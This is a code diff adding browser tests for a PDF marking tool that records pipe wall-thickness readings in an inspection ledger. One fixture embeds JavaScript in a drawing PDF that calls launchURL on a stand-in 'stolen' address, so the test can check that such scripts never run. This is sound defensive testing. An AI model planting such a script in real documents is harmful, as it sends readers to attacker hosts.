@@ -1,0 +1,151 @@
+import type { PdfDocumentDetail } from '@ircrisk/contract/modules/assets/pdf-marking-tool.ts';
+import { filePaths, type StoredFile } from '@ircrisk/contract/modules/system/file.ts';
+import { scaleOf, toView, turnOf } from '@ircrisk/engine-pdf-mark';
+import { PDFDocument } from 'pdf-lib';
+import { beforeAll, describe, expect, it } from 'vitest';
+import { paper } from '../apps/server/src/demo/drawings/paper.ts';
+import { overheadDiagram, thicknessSheet } from '../apps/server/src/demo/drawings/sheets.ts';
+import { sql } from '../apps/server/src/platform/database/sql.ts';
+import { plantUnit } from '../apps/server/src/testing/rbi-plant.ts';
+import type { TestClient } from '../apps/server/src/testing/test-client.ts';
+import { journey } from './journey.ts';
+import { look, told } from './steps.ts';
+
+const service = '/ircrisk-pdf';
+const walk = journey('a');
+let client: TestClient;
+let sheet: string;
+let drawing: string;
+let equipmentId: string;
+
+async function file(number: string, type: string, content: Uint8Array): Promise<string> {
+  const { platform } = walk;
+  const boundary = 'a-boundary';
+  const head = `--${boundary}\r\ncontent-disposition: form-data; name="file"; filename="${number}.pdf"\r\n\r\n`;
+  const answer = await platform.app.inject({
+    method: 'POST',
+    url: `/api${filePaths.upload}`,
+    headers: {
+      'blade-auth': `bearer ${client.token}`,
+      'content-type': `multipart/form-data; boundary=${boundary}`,
+    },
+    payload: Buffer.concat([Buffer.from(head), Buffer.from(content), Buffer.from(`\r\n--${boundary}--\r\n`)]),
+  });
+  const { id } = answer.json<{ data: StoredFile }>().data;
+  const record = { documentNumber: number, title: `测厚 ${number}`, type, revision: '0', fileId: id };
+  const { body } = await client.post<string>('/ircrisk-center/document/submit', record);
+  expect(body, JSON.stringify(body)).toMatchObject({ success: true });
+  return body.data;
+}
+
+/** A line with two points measured before, a sheet of new readings, and a drawing that tries to run a script. */
+beforeAll(async () => {
+  const { platform } = walk;
+  client = await platform.client(platform.a.admin);
+  const plant = await platform.inTenant(platform.a.tenantId, (tx) => plantUnit(tx, 1));
+  equipmentId = plant.equipmentIds[0]!;
+  const tag = await platform.inTenant(platform.a.tenantId, async (tx) => {
+    const { id } = await tx.one<{ id: string }>(sql`
+      insert into parts (equipment_id, number, name, type, nominal_thickness, wall_thickness, calculated_thickness, inner_diameter, material_id, corrosion_allowance, weld_coefficient)
+      select ${equipmentId}, 'P9', '出口弯头', 'elbow', 23, 22, 12, 200, m.id, 3, 1 from materials m order by m.id limit 1 returning id`);
+    for (const number of ['07-11', '07-14']) {
+      const point = await tx.one<{ id: string }>(
+        sql`insert into monitoring_locations (part_id, number) values (${id}, ${number}) returning id`,
+      );
+      await tx.run(
+        sql`insert into thickness_readings (location_id, reading_date, thickness) values (${point.id}, '2023-10-20', 20.6)`,
+      );
+    }
+    return (await tx.one<{ tag: string }>(sql`select tag from equipment where id = ${equipmentId}`)).tag;
+  });
+  sheet = await file(
+    'UT-2026-1187',
+    'report',
+    await paper('UT-2026-1187', [
+      thicknessSheet('UT-2026-1187', [
+        { point: '07-11', tag, nominal: '23.0', measured: '２０．１', date: '2026.10.22' },
+        { point: '07-14', tag, nominal: '23.0', measured: '18,0', date: '2026.10.22', byHand: true },
+      ]),
+    ]),
+  );
+  const scripted = await PDFDocument.load(await paper('110-PID-005', [overheadDiagram()]));
+  scripted.addJavaScript('never', 'app.alert("run"); app.launchURL("http://example.invalid/stolen");');
+  drawing = await file('110-PID-005', 'drawing', await scripted.save());
+});
+
+describe('PDF marking', () => {
+  it('a value is read from the sheet, checked by a person and written to the ledger', async () => {
+    const { page, here } = walk;
+    await walk.open(`/pdf-marking-tool/doc/${sheet}`);
+    await here.locator('canvas[data-drawn]').first().waitFor();
+    await here.getByText('已自动保存').waitFor();
+    await walk.press('读取');
+    await here.getByRole('button', { name: '18,0' }).click();
+    await here.locator('.pm-spot').waitFor();
+    await here.getByText('须核对，低于 0.85').waitFor();
+    await walk.press('确认 07-14');
+    await here.getByRole('button', { name: /^确认 ≥ 0.85 的 [12] 项$/ }).click();
+    await here.getByRole('button', { name: '写入台账 2 项' }).click();
+    await told(page, '2 个值已写入台账');
+    await look(page, 'pdf-marking-values');
+  });
+
+  it('and the ledger leads back to the place it was read from', async () => {
+    const { page, here } = walk;
+    await walk.open(`/equipment/detail?id=${equipmentId}&tab=parts`);
+    await here.getByText('出口弯头').first().click();
+    await here
+      .getByRole('button', { name: /UT-2026-1187 R0 第 1 页，原文“/ })
+      .first()
+      .click();
+    await page.waitForURL(/pdf-marking-tool\/doc\/\d+/);
+    await walk.here.locator('.pm-spot').waitFor();
+  });
+
+  it('a point put on a drawing stays on its target at every zoom and turn, and its script never runs', async () => {
+    const { page, here } = walk;
+    const dialogs: string[] = [];
+    page.on('dialog', (one) => {
+      dialogs.push(one.message());
+      void one.dismiss();
+    });
+    await walk.open(`/pdf-marking-tool/doc/${drawing}`);
+    await here.locator('canvas[data-drawn]').first().waitFor();
+    await here.getByText('已自动保存').waitFor();
+    await here.getByRole('button', { name: '测厚点', exact: true }).click();
+    const layer = here.locator('svg[data-page="1"]');
+    const box = (await layer.boundingBox())!;
+    await page.mouse.click(box.x + box.width * 0.6, box.y + box.height * 0.3);
+    const pin = layer.locator('.pm-pin');
+    await pin.waitFor();
+    const { pages } = (await client.get<PdfDocumentDetail>(`${service}/doc/detail`, { id: drawing })).body
+      .data;
+    const marks = (
+      await client.get<{ strokes: [number, number][][] }[]>(`${service}/mark/list`, { documentId: drawing })
+    ).body.data;
+    const target = marks[0]!.strokes[0]![0]!;
+    const frame = pages[0]!;
+    for (const turn of [0, 90, 180, 270]) {
+      for (const percent of [25, 100, 800]) {
+        await here.getByLabel('缩放', { exact: true }).click();
+        await page
+          .locator('.ant-select-dropdown:visible')
+          .getByTitle(`${percent} %`, { exact: true })
+          .click();
+        await here.locator(`.pm-stack[data-zoom="${percent / 100}"]`).waitFor();
+        const seen = await layer.evaluate((svg) => {
+          const outer = svg.getBoundingClientRect();
+          const inner = svg.querySelector('.pm-pin')!.getBoundingClientRect();
+          return [inner.x + inner.width / 2 - outer.x, inner.y + inner.height / 2 - outer.y];
+        });
+        const scale = scaleOf(percent / 100, frame.userUnit);
+        const [x, y] = toView(frame.box, turnOf(frame.rotate, turn), scale, target);
+        expect(Math.hypot(seen[0]! - x, seen[1]! - y), `${turn}° ${percent} %`).toBeLessThan(1);
+      }
+      await walk.press('旋转');
+    }
+    expect(dialogs).toEqual([]);
+    await walk.press('适合窗口');
+    await look(page, 'pdf-marking-drawing');
+  });
+});
